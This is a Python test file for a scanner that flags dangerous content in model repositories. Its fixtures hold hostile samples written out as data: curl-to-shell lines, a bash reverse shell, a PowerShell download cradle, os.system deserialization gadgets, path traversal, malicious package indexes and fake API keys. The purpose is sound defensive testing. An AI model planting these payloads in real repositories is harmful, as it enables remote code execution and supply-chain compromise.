# ruff: noqa: E501 (a row of a table is one case)
from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from ossmodelkit.scanning.checks import secrets
from tests.making.blobs import flagged, scan


def written(folder: Path, files: dict[str, object]) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content if isinstance(content, str) else json.dumps(content))
    return folder


LORA = {
    "peft_type": "LORA",
    "base_model_name_or_path": "org/base",
    "r": 8,
    "target_modules": ["q_proj"],
    "megatron_core": "megatron.core",
}
MAP = {"AutoModel": "other/repo--modeling_x.X"}


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        pytest.param({"config.json": {"auto_map": MAP}}, ["code-from-elsewhere"], id="code of another repository"),
        pytest.param({"config.json": {"auto_map": {"AutoModel": "gone.X"}}}, ["code-from-elsewhere"], id="code that is missing"),
        pytest.param({"modules.json": [{"type": "other/repo--st.X"}]}, ["code-from-elsewhere"], id="sentence-transformers, elsewhere"),
        pytest.param({"modules.json": [{"type": "os.system"}]}, ["code-from-elsewhere", "config-imports-target-json"], id="sentence-transformers, os"),
        pytest.param({"2_Dense/config.json": {"activation_function": "subprocess.Popen"}}, ["code-from-elsewhere"], id="Dense activation"),
        pytest.param({"model_index.json": {"_class_name": "P", "unet": ["os", "system"]}}, ["code-from-elsewhere"], id="diffusers library"),
        pytest.param({"model_index.json": {"_class_name": "P", "unet": ["evil.lib", "X"]}}, ["code-from-elsewhere"], id="diffusers, unknown library"),
        pytest.param({"adapter_config.json": {**LORA, "auto_mapping": {"parent_library": "os", "base_model_class": "system"}}}, ["adapter-imports-module"], id="auto_mapping"),
        pytest.param({"adapter_config.json": {**LORA, "megatron_core": "evil.module"}}, ["adapter-imports-module"], id="megatron_core"),
        pytest.param({"adapter_config.json": {**LORA, "base_model_name_or_path": "../../base"}}, ["adapter-redirects"], id="base above"),
        pytest.param({"adapter_config.json": {**LORA, "base_model_name_or_path": "./base"}}, ["adapter-redirects"], id="base beside"),
        pytest.param({"adapter_config.json": {**LORA, "base_model_name_or_path": "base"}, "base/config.json": {}}, ["adapter-redirects"], id="base inside"),
        pytest.param({"adapter_config.json": {**LORA, "base_model_name_or_path": "https://x.y/base"}}, ["adapter-redirects"], id="base at a URL"),
        pytest.param({"adapter_config.json": {**LORA, "tokenizer_kwargs": {"trust_remote_code": True}}}, ["asks-for-trust"], id="tokenizer_kwargs"),
        pytest.param({"sentence_bert_config.json": {"model_args": {"trust_remote_code": True}}}, ["asks-for-trust"], id="model_args"),
        pytest.param({"model.safetensors.index.json": {"weight_map": {"a": "../../etc/passwd"}}}, ["index-points-outside"], id="index above"),
        pytest.param({"pytorch_model.bin.index.json": {"weight_map": {"a": "/tmp/x.bin"}}}, ["index-points-outside"], id="index, absolute"),
        pytest.param({"modules.json": [{"idx": 0, "path": "../../x", "type": "sentence_transformers.models.Transformer"}]}, ["index-points-outside"], id="module's folder above"),
        pytest.param({"modules.json": [{"idx": 0, "path": "/tmp/x", "type": "sentence_transformers.models.Dense"}]}, ["index-points-outside"], id="module's folder, absolute"),
        pytest.param({"model.safetensors.index.json": {"weight_map": {"a": "x.bin"}}}, ["index-names-pickle"], id="index names a pickle"),
        pytest.param({"requirements.txt": "torch\n--extra-index-url https://evil.example/simple\n"}, ["requirements-foreign-index"], id="foreign index"),
        pytest.param({"requirements.txt": "x @ https://evil.example/x.whl\n"}, ["requirements-foreign-index"], id="direct URL"),
        pytest.param({"install.sh": "#!/bin/sh\ncurl -s http://x/y | sh\n"}, ["script-in-model", "script-reaches-out"], id="curl to sh"),
        pytest.param({"pytorch_model.bin": "#!/bin/sh\nls\n"}, ["script-disguised"], id="script named as weights"),
        pytest.param({"evil.pth": "import os; os.getcwd()\n"}, ["script-disguised"], id="path file of Python"),
        pytest.param({"conda.yaml": "dependencies:\n- pip:\n  - --index-url https://evil.example/simple\n"}, ["requirements-foreign-index"], id="conda with an index"),
        pytest.param({"requirements.txt": "./evil-1.0-py3-none-any.whl\n"}, ["requirements-foreign-index"], id="wheel beside"),
        pytest.param({"pyproject.toml": '[build-system]\nrequires = ["x @ https://evil.example/x.whl"]\n'}, ["requirements-foreign-index"], id="build from a URL"),
        pytest.param({"pyproject.toml": '[[tool.poetry.source]]\nname = "x"\nurl = "http://evil.example/simple"\n'}, ["requirements-foreign-index"], id="source of a project"),
        pytest.param({"setup.cfg": "[easy_install]\nindex_url = http://evil.example\n"}, ["requirements-foreign-index"], id="setup.cfg"),
        pytest.param({"package.json": {"scripts": {"postinstall": "node x.js"}}}, ["script-in-model"], id="npm hook"),
        pytest.param({"x.ipynb": {"cells": [{"cell_type": "code", "source": ["!curl http://evil.example/x | bash"]}]}}, ["script-reaches-out"], id="notebook"),
        pytest.param({"Dockerfile": "FROM x\nRUN bash -i >& /dev/tcp/10.0.0.1/99 0>&1\n"}, ["script-reaches-out"], id="recipe"),
        pytest.param({"chain.json": {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}}, ["config-imports-target-json"], id="LangChain"),
        pytest.param({"m.json": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}}, ["config-imports-target-json"], id="jsonpickle"),
        pytest.param({"logging.json": {"formatters": {"a": {"()": "os.system"}}}}, ["config-imports-target-json"], id="logging factory"),
        pytest.param({"x.hta": "<script>x</script>"}, ["script-in-model"], id="program in a web page"),
        pytest.param({"x.ps1": "IEX (New-Object Net.WebClient).DownloadString('http://x')\n"}, ["script-in-model", "script-reaches-out"], id="powershell"),
        pytest.param({"a\u202egnp.py": "x = 1\n", "config.json": {}}, ["name-deceives"], id="right-to-left name"),
    ],
)  # fmt: skip
def test_repository_flags(tmp_path: Path, files: dict[str, object], expected: list[str]) -> None:
    assert flagged(written(tmp_path, files)) == expected


@pytest.mark.parametrize(
    "files",
    [
        pytest.param({"adapter_config.json": LORA}, id="LoRA"),
        pytest.param({"adapter_config.json": {**LORA, "base_model_name_or_path": "/data/models/llama"}}, id="base trained from a local folder"),
        pytest.param({"adapter_config.json": {**LORA, "auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert", "base_model_class": "BertModel"}}}, id="auto_mapping of transformers"),
        pytest.param({"modules.json": [{"idx": 0, "type": "sentence_transformers.models.Transformer"}, {"type": "sentence_transformers.models.Pooling"}]}, id="sentence-transformers"),
        pytest.param({"modules.json": [{"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"}, {"path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]}, id="folders of modules"),
        pytest.param({"my-safetensors/model.json": {"weightsManifest": [{"paths": ["group1-shard1of1.bin"]}]}}, id="TensorFlow.js below a folder named for safetensors"),
        pytest.param({"2_Dense/config.json": {"activation_function": "torch.nn.modules.activation.Tanh"}}, id="Dense activation of torch"),
        pytest.param({"config.json": {"activation_function": "gelu_new", "trust_remote_code": False}}, id="activation by name"),
        pytest.param({"model_index.json": {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.3", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [None, None], "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"], "requires_safety_checker": True}}, id="diffusers"),
        pytest.param({"model.safetensors.index.json": {"metadata": {"total_size": 1}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}}, id="index"),
        pytest.param({"requirements.txt": "torch>=2\n# see https://example.org/x\n--extra-index-url https://download.pytorch.org/whl/cu121\ntransformers==4.40\n"}, id="requirements"),
        pytest.param({"train.sh": "#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0,1\nfor lr in 1e-4 1e-5; do\n  OMP_NUM_THREADS=4 accelerate launch train.py \\\n    --lr $lr\ndone\npython eval.py > log.txt\n"}, id="training script"),
        pytest.param({"README.md": "# x\n\n```\ncurl http://x | sh\n```\n" + "hf_" + "x" * 34}, id="card with a command"),
        pytest.param({"pyproject.toml": '[project]\nname = "x"\ndependencies = ["torch>=2"]\n[project.urls]\nurl = "https://example.org"\n'}, id="project file"),
        pytest.param({"package.json": {"scripts": {"build": "vite build", "prepare": "husky"}}}, id="web demo"),
        pytest.param({"x.ipynb": {"cells": [{"cell_type": "code", "source": ["!pip install -q x\n", "!curl -fsSL https://ollama.com/install.sh | sh"]}]}}, id="notebook that installs"),
        pytest.param({"Dockerfile": "FROM x\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"}, id="container"),
        pytest.param({"__init__.py": "", ".gitkeep": "", "config.json": {}}, id="empty marks"),
    ],
)  # fmt: skip
def test_repository_leaves_alone(tmp_path: Path, files: dict[str, object]) -> None:
    found = scan(written(tmp_path, files))
    assert (found.verdict, [f for f in found.answers.findings if f.severity.rank > 1]) == ("clean", [])


def test_links(tmp_path: Path) -> None:
    written(tmp_path, {"config.json": {}})
    (tmp_path / "inside.json").symlink_to("config.json")
    assert scan(tmp_path).verdict == "clean"
    (tmp_path / "blob.bin").symlink_to("../../blobs/" + "a" * 64)
    assert scan(tmp_path).verdict == "incomplete"
    (tmp_path / "out.bin").symlink_to("/etc/hostname")
    assert flagged(tmp_path) == ["link-leaves-folder"]


# Built from parts, so that no scanner takes this file for a leak.
SECRETS = {
    "Hugging Face": "hf_" + "wQzTfKbNxLmRsVdYpJhGcAeUiOtZkXqBnW",
    "AWS": "AKIA" + "QYLPMN5HFIQR7XYZ",
    "GitHub": "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a",
    "OpenAI": "sk-proj-" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hI6kL9nO2qR5tU8",
    "Slack": "xoxb-" + "2487591934-4729581036-uYtReWqLkJhGfDsAzXcVbNmP",
    "Google": "AIza" + "SyD9Wb4kQz7xLmN2pR5tVcE8uJ1hGfYoKiA",
    "key": "-----BEGIN RSA PRIVATE "
    + "KEY-----\n"
    + "MIIEowIBAAKCAQEAx7Qp2mZk9sVfT4wYbN8eRjL5uHgC3aXdKiOv6PqWt1yZsE0M\n" * 4,
}


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS.keys())
def test_secret_in_text_flags(tmp_path: Path, secret: str) -> None:
    assert flagged(written(tmp_path, {"notes.md": f"token: {secret}\n"})) == ["secret-in-text"]


@pytest.mark.parametrize(
    "text",
    [
        "hf_" + "x" * 34,
        "export HF_TOKEN=hf_your_token_here_" + "aaaaaaaaaaaaaaaaaaaaa",
        "AKIA" + "IOSFODNN7EXAMPLE",
        "sk-" + "x" * 48,
        "-----BEGIN PUBLIC KEY-----\nMIIB\n",
        "ghp_" + "0" * 36,
        "a tokenizer's merges: sk- AI za hf _",
    ],
)
def test_placeholders_are_left_alone(tmp_path: Path, text: str) -> None:
    assert flagged(written(tmp_path, {"notes.md": text})) == []


def test_hints_in_any_case_end_as_the_search_for_them_expects() -> None:
    loose = [hint for token in secrets._tokens() if token.ignores_case for hint in token.hints]
    assert loose and all(secrets.ENDS_LOOSE_HINTS.search(hint) for hint in loose)


def test_a_secret_on_a_seam_is_found(tmp_path: Path) -> None:
    (tmp_path / "big.txt").write_text("word " * 209710 + SECRETS["Hugging Face"] + " word" * 10)
    assert flagged(tmp_path) == ["secret-in-text"]


def test_nothing_hides_behind_names_that_are_not_utf8(tmp_path: Path) -> None:
    try:
        (Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff\xfe.json"))).write_text("{}")
    except OSError:
        pytest.skip("the file system refuses such names")
    assert scan(tmp_path).verdict == "clean"
